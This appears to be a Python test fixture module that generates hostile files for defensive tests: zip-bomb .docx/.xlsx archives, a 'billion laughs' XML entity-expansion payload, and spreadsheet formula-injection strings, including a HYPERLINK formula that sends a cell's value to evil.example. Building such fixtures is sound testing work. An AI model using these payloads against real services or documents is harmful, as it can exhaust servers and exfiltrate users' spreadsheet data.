"""Hostile files built in the test (never stored): zip bombs and formula-bearing names."""

from __future__ import annotations

import io
import zipfile

MIB = 1024 * 1024
# The probe's disclosure title and body name (issue 13).
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Xem")'
FORMULA_NAME = '=1+2+HYPERLINK("http://evil.example/","Xem")'

_PARAGRAPH = b"<w:p><w:r><w:t>Thuc hien dan chu o co so</w:t></w:r></w:p>"


def bomb(base: bytes, member: str, *, inflated_mib: int = 80, head: bytes = b"", tail: bytes = b"") -> bytes:
    """``base`` (a real .docx/.xlsx) with ``member`` replaced by ``inflated_mib`` MiB of repeated markup:
    a few hundred kilobytes that inflate to what pinned a worker for a minute."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != member:
                target.writestr(info.filename, source.read(info))
        block = _PARAGRAPH * (MIB // len(_PARAGRAPH))
        with target.open(member, "w", force_zip64=True) as handle:
            handle.write(head)
            for _ in range(inflated_mib):
                handle.write(block)
            handle.write(tail)
    return out.getvalue()


def docx_bomb(inflated_mib: int = 80) -> bytes:
    from docx import Document

    buffer = io.BytesIO()
    Document().save(buffer)
    head = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    )
    return bomb(
        buffer.getvalue(), "word/document.xml", inflated_mib=inflated_mib, head=head, tail=b"</w:body></w:document>"
    )


def with_member(base: bytes, member: str, data: bytes) -> bytes:
    """``base`` with one member replaced (or added)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != member:
                target.writestr(info.filename, source.read(info))
        target.writestr(member, data)
    return out.getvalue()


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode() for i in range(1, 10)
    )
    + b']><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r>'
    b"<w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"
)
